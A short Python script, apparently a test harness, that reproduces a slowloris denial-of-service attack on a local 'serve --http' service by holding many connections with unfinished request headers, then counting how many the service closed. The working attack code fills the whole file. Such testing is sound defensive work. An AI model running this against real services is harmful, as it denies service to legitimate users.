"""As another local user (no token): hold N connections to serve --http, each having sent part
of a request's headers, while a client with the token asks again and again (503 while they hold).

Usage: python3 slowloris.py HOST PORT N SECONDS
"""

import socket
import sys
import time

host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
held = []
for _ in range(count):
    connection = socket.create_connection((host, port))
    connection.sendall(b"POST /fingerprint HTTP/1.1\r\nHost: x\r\n")  # headers never finished
    held.append(connection)
print("holding", len(held), flush=True)
time.sleep(seconds)
closed = 0
for connection in held:
    connection.settimeout(0.1)
    try:
        closed += connection.recv(1) == b""
    except OSError:
        pass
print(f"closed by the service after {seconds:g} s: {closed} of {len(held)}", flush=True)
